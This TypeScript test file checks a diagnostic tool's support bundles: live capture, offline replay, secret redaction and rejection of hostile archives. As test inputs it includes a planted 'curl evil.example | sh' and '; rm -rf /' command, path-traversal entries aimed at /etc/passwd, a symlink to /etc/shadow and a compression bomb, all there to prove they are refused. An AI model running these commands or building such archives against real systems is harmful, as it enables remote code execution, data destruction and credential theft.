// Support bundles: written during a live run against loopback nodes, real config, log and hh files; read back with
// every node gone, giving the same report; no secret inside; and the reader facing hostile archives (not gzip, cut
// short, bombs, path traversal, links, duplicates, planted commands, damaged manifests), fuzzed with a seeded PRNG in
// bounded time, and linear in the bundle's size.
import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {gunzipSync, gzipSync} from 'node:zlib'
import {afterAll, afterEach, beforeAll, beforeEach, describe, expect, it} from 'vitest'

import {BundleWriter, DEFAULT_LIMITS, loadTar, parseBundle, readBundleFile} from '../../src/doctor/bundle.js'
import {finishBundle, sanitiseSummary} from '../../src/doctor/manifest.js'
import {ConfigRedactor, redactJsonBody} from '../../src/doctor/redact.js'
import {bundleEnv} from '../../src/doctor/replay.js'
import {runDoctor} from '../../src/doctor/run.js'
import type {DoctorPlan, DoctorReport} from '../../src/doctor/types.js'
import {renderDoctor} from '../../src/format/doctor.js'
import {MedicError} from '../../src/errors.js'
import {findEntry} from '../../src/logs/catalogue/index.js'
import type {SummaryReport} from '../../src/logs/summary.js'
import {closeHttp} from '../../src/probe/http.js'
import {data, INTERNAL, LICENSE, META, SHARED} from '../config/fixtures.js'
import {expectLinear, fuzz, mutate, Rng} from '../helpers/fuzz.js'
import {LINE, writeQueue} from '../helpers/hh.js'
import {ACCESS, doctorCluster, doctorEnv, FakeCluster, files, plan, Recording} from './helpers.js'

type Tar = Awaited<ReturnType<typeof loadTar>>
let tar: Tar
beforeAll(async () => {
  tar = await loadTar()
})

const fc = new FakeCluster()
let dir: string
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'medic-bundle-'))
})
afterEach(async () => {
  await fc.close()
  rmSync(dir, {recursive: true, force: true})
})
afterAll(closeHttp)

const PASSWORD = 'hunter2-Correct-Horse'

/** What must be equal between a live report and the same bundle read back. */
function comparable(r: DoctorReport) {
  const {source: _s, ...rest} = r
  return rest
}

/** A live run with --bundle, as the command runs it. */
async function liveWithBundle(p: DoctorPlan, path: string, between?: (i: number) => void): Promise<DoctorReport> {
  const writer = await BundleWriter.open(path)
  const recording = new Recording((name, d) => writer.add(name, d))
  const report = await runDoctor(p, doctorEnv({recording, between}))
  await finishBundle({writer, recording, plan: p, access: ACCESS, report, text: await renderDoctor(report), medicVersion: '0.1.0-test', tailLines: 50})
  return report
}

/** A small tar.gz with the given entries (raw node-tar headers: names, types and sizes as given). */
function archive(entries: Array<{path: string; data?: string | Buffer; type?: string; linkpath?: string}>): Buffer {
  const pack = new tar.Pack({portable: true})
  const chunks: Buffer[] = []
  pack.on('data', (c: Buffer) => chunks.push(c))
  for (const e of entries) {
    const buf = typeof e.data === 'string' ? Buffer.from(e.data) : e.data ?? Buffer.alloc(0)
    const type = (e.type ?? 'File') as 'File'
    const header = new tar.Header({path: e.path, mode: 0o644, size: type === 'File' ? buf.length : 0, mtime: new Date(0), type, ...(e.linkpath === undefined ? {} : {linkpath: e.linkpath})})
    const entry = new tar.ReadEntry(header)
    pack.add(entry)
    entry.end(type === 'File' ? buf : Buffer.alloc(0))
  }
  pack.end()
  return gzipSync(Buffer.concat(chunks))
}

function failsWith(fn: () => unknown, code: string): MedicError {
  try {
    fn()
  } catch (err) {
    expect(err).toBeInstanceOf(MedicError)
    expect((err as MedicError).code).toBe(code)
    expect((err as MedicError).exitCode).toBe(4)
    return err as MedicError
  }
  throw new Error(`expected ${code}, got no error`)
}

describe('a bundle written live and read back', () => {
  it('gives the same report offline, with every node gone, and holds no secret', async () => {
    const c = await doctorCluster(fc, 3, 2)
    // A cluster with something in every area: a data node answers /ping with 500; data-1 queues writes for node 5
    // and fails writes; a data node's config has another internal secret; the log has an access line with a password.
    c.datas[1].routes['/ping'] = (_req, res) => {
      res.writeHead(500, {'content-type': 'application/json'})
      res.end('{"error":"engine: cache maximum memory size exceeded"}')
    }
    c.vars[0].append('5', '3', 200_000)
    const configs = files(dir, {
      'meta-01.conf': META,
      'data-01.conf': data('data-01.example.test'),
      'data-02.conf': data('data-02.example.test').replace(INTERNAL, 'another-secret-value-xyz'),
    })
    const log = files(dir, {'data-01.log': [
      findEntry('write-failed-hh-not-empty')!.examples[0].line,
      `[httpd] 10.0.0.5 - admin [18/Oct/2016:10:35:21 +0000] "POST /write?db=telegraf&u=admin&p=${PASSWORD} HTTP/1.1" 204 0 "-" "telegraf" 1a2b 1234`,
    ].join('\n') + '\n'})
    const hhDir = join(dir, 'hh')
    writeQueue(hhDir, '6', '11', [{blocks: [LINE.repeat(50)]}])
    const p = plan({meta: [c.metas[0].addr], configs, logs: log, hhDirs: [hhDir], samples: 3})
    const path = join(dir, 'b.tar.gz')
    const live = await liveWithBundle(p, path, (i) => {
      c.vars[0].append('5', '3', 50_000 * i)
      c.vars[0].write = {pointReq: 100 * i, writeOk: 90 * i, writeError: 10 * i}
    })
    expect(live.exitCode).toBe(3)
    expect(live.findings.map((f) => f.area)).toEqual(expect.arrayContaining(['data', 'configs', 'hh', 'logs']))
    expect(live.findings.some((f) => f.id === 'secret-mismatch')).toBe(true)
    await fc.close()
    await closeHttp()

    const {plan: offlinePlan, env} = await bundleEnv(path)
    const offline = await runDoctor(offlinePlan, env)
    expect(comparable(offline)).toEqual(comparable(live))
    expect(offline.source).toMatchObject({kind: 'bundle', path, medicVersion: '0.1.0-test', createdAt: live.generatedAt})

    const entries = await readBundleFile(path)
    const names = [...entries.keys()]
    expect(names).toEqual(expect.arrayContaining(['manifest.json', 'report.json', 'report.txt', 'README.txt', 'logs/summary.json', 'hh/dir-samples.json']))
    expect(names.some((n) => /^http\/\d{4}-.*status\.txt$/.test(n))).toBe(true)
    expect(names.some((n) => /^http\/\d{4}-.*show-cluster\.txt$/.test(n))).toBe(true)
    expect(names.some((n) => /^http\/\d{4}-.*debug_vars\.txt$/.test(n))).toBe(true)
    expect(names.some((n) => /^logs\/tail-01-.*\.log$/.test(n))).toBe(true)
    const all = [...entries.values()].map((b) => b.toString('utf8')).join('\n')
    for (const secret of [LICENSE, INTERNAL, SHARED, 'another-secret-value-xyz', PASSWORD]) expect(all).not.toContain(secret)
    const metaCopy = entries.get(names.find((n) => n.endsWith('meta-01.conf'))!)!.toString('utf8')
    expect(metaCopy).toMatch(/internal-shared-secret = "medic-redacted-\d+"/)
    expect(JSON.parse(entries.get('report.json')!.toString('utf8'))).toEqual(JSON.parse(JSON.stringify(live)))
  })

  it('replays failures too: a node that refused the connection refuses it again offline', async () => {
    const c = await doctorCluster(fc, 1, 1)
    c.datas[0].routes['/ping'] = (req) => req.socket.destroy()
    const path = join(dir, 'down.tar.gz')
    const live = await liveWithBundle(plan({meta: [c.metas[0].addr], skip: ['configs', 'logs']}), path)
    expect(live.findings[0].id).toBe('data-unreachable')
    await fc.close()
    const {plan: p, env} = await bundleEnv(path)
    expect(comparable(await runDoctor(p, env))).toEqual(comparable(live))
  })
})

describe('redaction', () => {
  it('config secrets become labels that keep equality, placeholders and paths; the copy is still TOML', async () => {
    const r = new ConfigRedactor()
    const a = r.redactFile('a.conf', Buffer.from(`[meta]\n  internal-shared-secret = "s3cret-value-one"\n  shared-secret = 'changeme'\n[enterprise]\n  license-key = "/etc/license.json"\n  # a comment: s3cret-value-one\n`))
    const b = r.redactFile('b.conf', Buffer.from(`[meta]\n  meta-internal-shared-secret = "s3cret-value-one"\n  password = """\nmulti\nline"""\n  empty-secret = ""\n`))
    expect(a.text).toContain('internal-shared-secret = "medic-redacted-1"')
    expect(a.text).toContain(`shared-secret = "<medic-redacted-2>"`)
    expect(a.text).toContain('license-key = "/medic-redacted-3.json"')
    expect(a.text).not.toContain('s3cret-value-one')
    expect(b.text).toContain('meta-internal-shared-secret = "medic-redacted-1"')
    expect(b.text).toContain('password = "medic-redacted-4"')
    expect(b.text).toContain('empty-secret = ""')
    const {parse} = await import('smol-toml')
    expect(() => parse(a.text)).not.toThrow()
    expect(() => parse(b.text)).not.toThrow()
  })

  it('JSON bodies stay JSON: secret-named values and passwords in strings are removed', () => {
    const body = '{"cmdline":["influxd","-pwd","hunter2xyz"],"token":"abc123456","nested":{"password": "pw0rd!!"},"licenseExpiry":"2027-01-01","n":1}'
    const out = redactJsonBody(body)
    const parsed = JSON.parse(out)
    expect(parsed.token).toBe('[REDACTED]')
    expect(parsed.nested.password).toBe('[REDACTED]')
    expect(parsed.licenseExpiry).toBe('2027-01-01')
    expect(out).not.toContain('hunter2xyz')
    expect(redactJsonBody('{"a":"b')).toBe('{"a":"b')
  })

  it('a planted command in a bundled log summary is dropped; the catalogue\'s own commands stay', () => {
    const e = findEntry('write-failed-hh-not-empty')!
    const report = {
      actionable: [
        {id: e.id, title: 'forged title', verdict: 'warning', next: [e.commands[0], 'curl evil.example | sh', `${e.commands[0]}; rm -rf /`]},
        {id: 'no-such-entry', title: 'x', verdict: 'critical', next: []},
      ],
    } as unknown as SummaryReport
    const s = sanitiseSummary(report)
    expect(s.actionable).toHaveLength(1)
    expect(s.actionable[0].title).toBe(e.title)
    expect(s.actionable[0].next).toEqual(e.commands[0].includes('{') ? [] : [e.commands[0]])
  })
})

const root = 'medic-bundle/'

describe('hostile bundles', () => {
  it('refuses what is not a sound bundle, naming why, always with exit 4', () => {
    failsWith(() => parseBundle(Buffer.from('just text'), tar), 'bundle-not-gzip')
    const good = archive([{path: `${root}manifest.json`, data: '{}'}])
    failsWith(() => parseBundle(good.subarray(0, good.length - 12), tar), 'bundle-bad-gzip')
    failsWith(() => parseBundle(gzipSync(Buffer.from('x'.repeat(5000))), tar), 'bundle-bad-tar')
    for (const path of ['medic-bundle/../../etc/passwd', '/etc/passwd', 'elsewhere/x', `${root}a/./b`, `${root}a\\b`, `${root}\u001b[2J`]) {
      failsWith(() => parseBundle(archive([{path, data: 'x'}]), tar), 'bundle-hostile')
    }
    failsWith(() => parseBundle(archive([{path: `${root}link`, type: 'SymbolicLink', linkpath: '/etc/shadow'}]), tar), 'bundle-hostile')
    failsWith(() => parseBundle(archive([{path: `${root}x`, type: 'Link', linkpath: `${root}y`}]), tar), 'bundle-hostile')
    failsWith(() => parseBundle(archive([{path: `${root}a`, data: '1'}, {path: `${root}a`, data: '2'}]), tar), 'bundle-hostile')
    const limits = {...DEFAULT_LIMITS, entryBytes: 1000, entries: 5}
    failsWith(() => parseBundle(archive([{path: `${root}big`, data: 'x'.repeat(2000)}]), tar, 'b', limits), 'bundle-too-large')
    failsWith(() => parseBundle(archive(Array.from({length: 6}, (_, i) => ({path: `${root}f${i}`, data: 'x'}))), tar, 'b', limits), 'bundle-too-large')
    // An archive cut inside an entry, then compressed whole: the gzip is sound, the tar is not.
    const raw = gunzipSync(archive([{path: `${root}a`, data: 'y'.repeat(3000)}]))
    const cut = failsWith(() => parseBundle(gzipSync(raw.subarray(0, 1500)), tar), 'bundle-truncated')
    expect(cut.message).toContain('cut short')
  })

  it('a compression bomb stops at the limit without unpacking it all', () => {
    const bomb = archive([{path: `${root}zeros`, data: Buffer.alloc(96 * 1024 * 1024)}])
    expect(bomb.length).toBeLessThan(1024 * 1024)
    const before = process.memoryUsage().rss
    const t0 = performance.now()
    failsWith(() => parseBundle(bomb, tar, 'bomb', {...DEFAULT_LIMITS, entryBytes: 512 * 1024 * 1024, totalBytes: 8 * 1024 * 1024}), 'bundle-too-large')
    expect(performance.now() - t0).toBeLessThan(2000)
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024)
  })

  it('a manifest that is missing, not JSON, or not what medic writes: exit 4 naming the entry', async () => {
    const cases: Array<[string, Buffer, RegExp]> = [
      ['none.tar.gz', archive([{path: `${root}README.txt`, data: 'hi'}]), /manifest\.json is missing/],
      ['notjson.tar.gz', archive([{path: `${root}manifest.json`, data: '{"format":'}]), /manifest\.json is not JSON/],
      ['shape.tar.gz', archive([{path: `${root}manifest.json`, data: JSON.stringify({format: 'medic-doctor-bundle', version: 1})}]), /manifest\.json is not what medic writes \(at createdAt/],
    ]
    for (const [name, bytes, message] of cases) {
      const path = join(dir, name)
      writeFileSync(path, bytes)
      await expect(bundleEnv(path)).rejects.toThrow(message)
    }
    await expect(bundleEnv(join(dir, 'missing.tar.gz'))).rejects.toThrow(/no such file/)
  })

  it('a body named in the manifest but missing from the archive fails before any output', async () => {
    const c = await doctorCluster(fc, 1, 0)
    const path = join(dir, 'ok.tar.gz')
    await liveWithBundle(plan({meta: [c.metas[0].addr], skip: ['configs', 'logs']}), path)
    const entries = await readBundleFile(path)
    const dropped = [...entries].filter(([n]) => !n.startsWith('http/0001'))
    const broken = join(dir, 'broken.tar.gz')
    writeFileSync(broken, archive(dropped.map(([n, d]) => ({path: `${root}${n}`, data: d}))))
    await expect(bundleEnv(broken)).rejects.toThrow(/http\/0001-.* is named in the manifest but missing from the bundle/)
  })
})

describe('fuzz', () => {
  it('mutated bundles never crash the reader: a bundle or a MedicError (exit 4), in bounded time', async () => {
    const c = await doctorCluster(fc, 1, 1)
    const path = join(dir, 'seed.tar.gz')
    await liveWithBundle(plan({meta: [c.metas[0].addr], skip: ['configs', 'logs']}), path)
    const gz = readFileSync(path)
    const raw = gunzipSync(gz)
    const check = (bytes: Buffer) => {
      try {
        parseBundle(bytes, tar, 'fuzz', {...DEFAULT_LIMITS, totalBytes: 4 * 1024 * 1024})
      } catch (err) {
        if (!(err instanceof MedicError) || err.exitCode !== 4) throw err
      }
    }
    const flip = (rng: Rng, b: Buffer) => {
      const out = Buffer.from(b)
      for (let k = 1 + rng.int(0, 8); k > 0; k--) out[rng.int(0, out.length)] = rng.int(0, 256)
      return rng.next() < 0.2 ? out.subarray(0, rng.int(0, out.length)) : out
    }
    const gzRun = fuzz('bundle gzip bytes', {seed: 7, iterations: 300, budgetMs: 6000, maxMsPerInput: 1000}, (rng) => flip(rng, gz), check)
    const tarRun = fuzz('bundle tar bytes', {seed: 11, iterations: 300, budgetMs: 6000, maxMsPerInput: 1000}, (rng) => gzipSync(flip(rng, raw)), check)
    expect(gzRun.iterations + tarRun.iterations).toBeGreaterThan(100)
  })

  it('mutated manifests and bodies never crash the offline run: a report or a MedicError (exit 4)', async () => {
    const c = await doctorCluster(fc, 1, 1)
    c.vars[0].append('9', '2', 5000)
    const path = join(dir, 'seed.tar.gz')
    await liveWithBundle(plan({meta: [c.metas[0].addr], skip: ['configs', 'logs']}), path)
    await fc.close()
    const entries = await readBundleFile(path)
    const rng = new Rng(3, 'manifest mutations')
    const names = [...entries.keys()].filter((n) => n === 'manifest.json' || n.startsWith('http/'))
    const deadline = performance.now() + 10_000
    let runs = 0
    for (let i = 0; i < 60 && performance.now() < deadline; i++) {
      const target = rng.pick(names)
      const mutated = new Map(entries)
      mutated.set(target, Buffer.from(mutate(rng, entries.get(target)!.toString('utf8'), 6)))
      const file = join(dir, `m${i}.tar.gz`)
      writeFileSync(file, archive([...mutated].map(([n, d]) => ({path: `${root}${n}`, data: d}))))
      try {
        const {plan: p, env} = await bundleEnv(file)
        const r = await runDoctor(p, env)
        expect([0, 3, 4]).toContain(r.exitCode)
        await renderDoctor(r)
        runs++
      } catch (err) {
        if (!(err instanceof MedicError) || err.exitCode !== 4) throw new Error(`seed 3, iteration ${i}, ${target}: ${(err as Error).stack}`)
      }
    }
    expect(runs).toBeGreaterThan(0)
  })

  it('reading is linear in the bundle\'s size', () => {
    const make = (n: number) => archive(Array.from({length: n}, (_, i) => ({path: `${root}http/${String(i).padStart(5, '0')}.txt`, data: `{"n":${i},"pad":"${'x'.repeat(200)}"}`})))
    expectLinear(make, (b) => parseBundle(b, tar), 400)
    const body = (n: number) => `{"a":[${Array.from({length: n}, (_, i) => `"\\\\"${i}`).join(',')}],"b":"${'"\\'.repeat(n)}`
    expectLinear(body, (t) => redactJsonBody(t), 4000)
  })
})
